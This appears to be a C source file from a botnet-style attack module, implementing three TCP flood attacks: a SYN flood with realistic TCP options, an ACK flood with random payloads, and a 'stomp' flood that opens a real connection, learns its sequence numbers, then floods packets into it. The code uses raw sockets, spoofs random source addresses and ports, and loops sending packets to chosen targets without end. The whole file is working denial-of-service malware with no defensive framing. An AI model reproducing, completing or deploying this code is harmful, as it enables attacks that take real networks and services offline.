/* TCP floods: SYN, ACK, and ACKs after a real handshake. */
#include "attack.h"

#include "inert.h"
#include "packet.h"
#include "util.h"

#if HAS_ATTACKS

#define FLAGS(ATTACK)                                       \
    (uint8_t)((INT_OPTION(ATTACK, URG) ? TCP_URG : 0) |     \
              (INT_OPTION(ATTACK, ACK) ? TCP_ACK : 0) |     \
              (INT_OPTION(ATTACK, PSH) ? TCP_PSH : 0) |     \
              (INT_OPTION(ATTACK, RST) ? TCP_RST : 0) |     \
              (INT_OPTION(ATTACK, SYN) ? TCP_SYN : 0) |     \
              (INT_OPTION(ATTACK, FIN) ? TCP_FIN : 0))

static void fill_ip(struct ip_header *ip, uint8_t tos, uint16_t ident, uint8_t ttl,
                    int dont_fragment, ipv4_t source, int transport)
{
    ip->version_length = 0x45;
    ip->tos = tos;
    ip->total = htons((uint16_t)(sizeof(struct ip_header) + (unsigned int)transport));
    ip->id = htons(ident);
    ip->ttl = ttl;
    if (dont_fragment)
        ip->fragment = htons(1 << 14);
    ip->protocol = IPPROTO_TCP;
    ip->source = source;
}

static void finish(int fd, struct ip_header *ip, struct attack_target *target, int transport)
{
    struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
    ip->checksum = 0;
    ip->checksum = checksum_generic(ip, sizeof(struct ip_header));
    tcp->checksum = 0;
    tcp->checksum = checksum_transport(ip, tcp, htons((uint16_t)transport), transport);
    target->sock_addr.sin_addr.s_addr = ip->destination;
    target->sock_addr.sin_port = tcp->destination;
    bounded_send(fd, ip, (int)sizeof(struct ip_header) + transport, &target->sock_addr);
}

/* Maximum segment size, selective acknowledgement, time stamp, window scale: as a real stack asks. */
#define SYN_OPTIONS 20
static void fill_syn_options(uint8_t *out)
{
    uint16_t segment = htons(1400 + (rand_next() & 0x0f));
    uint32_t stamp = rand_next();
    out[0] = 2;
    out[1] = 4;
    memcpy(out + 2, &segment, 2);
    out[4] = 4;
    out[5] = 2;
    out[6] = 8;
    out[7] = 10;
    memcpy(out + 8, &stamp, 4);
    memset(out + 12, 0, 4);
    out[16] = 1;
    out[17] = 3;
    out[18] = 3;
    out[19] = 6;
}

void attack_tcp_syn(ATTACK_ARGUMENTS)
{
    int i, fd;
    char **packets = calloc(target_count, sizeof(char *));
    uint8_t tos = (uint8_t)INT_OPTION(SYN, TOS);
    uint16_t ident = (uint16_t)INT_OPTION(SYN, IDENT);
    uint8_t ttl = (uint8_t)INT_OPTION(SYN, TTL);
    int dont_fragment = INT_OPTION(SYN, DONT_FRAGMENT);
    port_t source_port = (port_t)INT_OPTION(SYN, SOURCE_PORT);
    port_t destination_port = (port_t)INT_OPTION(SYN, DESTINATION_PORT);
    uint32_t sequence = (uint32_t)INT_OPTION(SYN, SEQUENCE);
    uint32_t acknowledgement = (uint32_t)INT_OPTION(SYN, ACKNOWLEDGEMENT);
    uint8_t flags = FLAGS(SYN);
    uint32_t source = ADDRESS_OPTION(SOURCE_ADDRESS, local_address);
    int transport = (int)sizeof(struct tcp_header) + SYN_OPTIONS;
    if ((fd = attack_raw_socket(IPPROTO_TCP)) == -1)
        return;
    for (i = 0; i < target_count; i++) {
        struct ip_header *ip;
        struct tcp_header *tcp;
        packets[i] = calloc(128, 1);
        ip = (struct ip_header *)packets[i];
        tcp = (struct tcp_header *)(ip + 1);
        fill_ip(ip, tos, ident, ttl, dont_fragment, source, transport);
        tcp->source = htons(source_port);
        tcp->destination = htons(destination_port);
        tcp->sequence = htonl(sequence);
        tcp->acknowledgement = htonl(acknowledgement);
        tcp->offset = 10 << 4;
        tcp->flags = flags;
        fill_syn_options((uint8_t *)(tcp + 1));
    }
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct ip_header *ip = (struct ip_header *)packets[i];
            struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
            ip->destination = attack_draw_address(&targets[i]);
            if (source == 0xffffffff)
                ip->source = rand_next();
            if (ident == 0xffff)
                ip->id = (uint16_t)rand_next();
            if (source_port == 0xffff)
                tcp->source = (port_t)rand_next();
            if (destination_port == 0xffff)
                tcp->destination = (port_t)rand_next();
            if (sequence == 0xffff)
                tcp->sequence = rand_next();
            if (acknowledgement == 0xffff)
                tcp->acknowledgement = rand_next();
            finish(fd, ip, &targets[i], transport);
        }
    }
}

void attack_tcp_ack(ATTACK_ARGUMENTS)
{
    int i, fd;
    char **packets = calloc(target_count, sizeof(char *));
    uint8_t tos = (uint8_t)INT_OPTION(ACK, TOS);
    uint16_t ident = (uint16_t)INT_OPTION(ACK, IDENT);
    uint8_t ttl = (uint8_t)INT_OPTION(ACK, TTL);
    int dont_fragment = INT_OPTION(ACK, DONT_FRAGMENT);
    port_t source_port = (port_t)INT_OPTION(ACK, SOURCE_PORT);
    port_t destination_port = (port_t)INT_OPTION(ACK, DESTINATION_PORT);
    uint32_t sequence = (uint32_t)INT_OPTION(ACK, SEQUENCE);
    uint32_t acknowledgement = (uint32_t)INT_OPTION(ACK, ACKNOWLEDGEMENT);
    uint8_t flags = FLAGS(ACK);
    int size = INT_OPTION(ACK, PAYLOAD_SIZE);
    int random_payload = INT_OPTION(ACK, PAYLOAD_RANDOM);
    uint32_t source = ADDRESS_OPTION(SOURCE_ADDRESS, local_address);
    int transport;
    if (size > MAXIMUM_PAYLOAD)
        size = MAXIMUM_PAYLOAD;
    transport = (int)sizeof(struct tcp_header) + size;
    if ((fd = attack_raw_socket(IPPROTO_TCP)) == -1)
        return;
    for (i = 0; i < target_count; i++) {
        struct ip_header *ip;
        struct tcp_header *tcp;
        packets[i] = calloc(PACKET_ROOM, 1);
        ip = (struct ip_header *)packets[i];
        tcp = (struct tcp_header *)(ip + 1);
        fill_ip(ip, tos, ident, ttl, dont_fragment, source, transport);
        tcp->source = htons(source_port);
        tcp->destination = htons(destination_port);
        tcp->sequence = htonl(sequence);
        tcp->acknowledgement = htonl(acknowledgement);
        tcp->offset = 5 << 4;
        tcp->flags = flags;
        tcp->window = (uint16_t)rand_next();
        rand_bytes((char *)(tcp + 1), size);
    }
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct ip_header *ip = (struct ip_header *)packets[i];
            struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
            ip->destination = attack_draw_address(&targets[i]);
            if (source == 0xffffffff)
                ip->source = rand_next();
            if (ident == 0xffff)
                ip->id = (uint16_t)rand_next();
            if (source_port == 0xffff)
                tcp->source = (port_t)rand_next();
            if (destination_port == 0xffff)
                tcp->destination = (port_t)rand_next();
            if (sequence == 0xffff)
                tcp->sequence = rand_next();
            if (acknowledgement == 0xffff)
                tcp->acknowledgement = rand_next();
            if (random_payload)
                rand_bytes((char *)(tcp + 1), size);
            finish(fd, ip, &targets[i], transport);
        }
    }
}

/* Waits for the answer to our SYN; its numbers go into the packets that follow. */
static int learn_numbers(int fd, struct attack_target *target, struct tcp_header *tcp)
{
    char answer[256];
    int tries;
    for (tries = 0; tries < 64; tries++) {
        struct sockaddr_in from;
        socklen_t length = sizeof(from);
        struct ip_header *ip = (struct ip_header *)answer;
        struct tcp_header *reply = (struct tcp_header *)(ip + 1);
        int got = (int)recvfrom(fd, answer, sizeof(answer), MSG_NOSIGNAL, (struct sockaddr *)&from,
                                &length);
        if (got < (int)(sizeof(struct ip_header) + sizeof(struct tcp_header)))
            return 0;
        if (from.sin_addr.s_addr == target->sock_addr.sin_addr.s_addr &&
            reply->source == target->sock_addr.sin_port &&
            (reply->flags & (TCP_SYN | TCP_ACK)) == (TCP_SYN | TCP_ACK)) {
            tcp->source = reply->destination;
            tcp->sequence = reply->acknowledgement;
            tcp->acknowledgement = htonl(ntohl(reply->sequence) + 1);
            return 1;
        }
    }
    return 0;
}

void attack_tcp_stomp(ATTACK_ARGUMENTS)
{
    int i, fd;
    char **packets = calloc(target_count, sizeof(char *));
    uint8_t tos = (uint8_t)INT_OPTION(STOMP, TOS);
    uint16_t ident = (uint16_t)INT_OPTION(STOMP, IDENT);
    uint8_t ttl = (uint8_t)INT_OPTION(STOMP, TTL);
    int dont_fragment = INT_OPTION(STOMP, DONT_FRAGMENT);
    port_t destination_port = (port_t)INT_OPTION(STOMP, DESTINATION_PORT);
    uint8_t flags = FLAGS(STOMP);
    int size = INT_OPTION(STOMP, PAYLOAD_SIZE);
    int random_payload = INT_OPTION(STOMP, PAYLOAD_RANDOM);
    int transport;
    if (size > MAXIMUM_PAYLOAD)
        size = MAXIMUM_PAYLOAD;
    transport = (int)sizeof(struct tcp_header) + size;
    if ((fd = attack_raw_socket(IPPROTO_TCP)) == -1)
        return;
    for (i = 0; i < target_count; i++) {
        struct ip_header *ip;
        struct tcp_header *tcp;
        int stream = socket(AF_INET, SOCK_STREAM, 0);
        if (stream == -1)
            return;
        packets[i] = calloc(PACKET_ROOM, 1);
        ip = (struct ip_header *)packets[i];
        tcp = (struct tcp_header *)(ip + 1);
        fcntl(stream, F_SETFL, O_NONBLOCK | fcntl(stream, F_GETFL, 0));
        targets[i].sock_addr.sin_family = AF_INET;
        targets[i].sock_addr.sin_addr.s_addr = attack_draw_address(&targets[i]);
        targets[i].sock_addr.sin_port =
            destination_port == 0xffff ? (port_t)rand_next() : htons(destination_port);
        bounded_connect(stream, &targets[i].sock_addr);
        fill_ip(ip, tos, ident, ttl, dont_fragment, local_address, transport);
        ip->destination = targets[i].sock_addr.sin_addr.s_addr;
        tcp->destination = targets[i].sock_addr.sin_port;
        tcp->offset = 5 << 4;
        tcp->flags = flags;
        tcp->window = (uint16_t)rand_next();
        learn_numbers(fd, &targets[i], tcp);
        rand_bytes((char *)(tcp + 1), size);
    }
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct ip_header *ip = (struct ip_header *)packets[i];
            struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
            if (ident == 0xffff)
                ip->id = (uint16_t)rand_next();
            if (random_payload)
                rand_bytes((char *)(tcp + 1), size);
            finish(fd, ip, &targets[i], transport);
            tcp->sequence = htonl(ntohl(tcp->sequence) + (uint32_t)size);
        }
    }
}

#endif
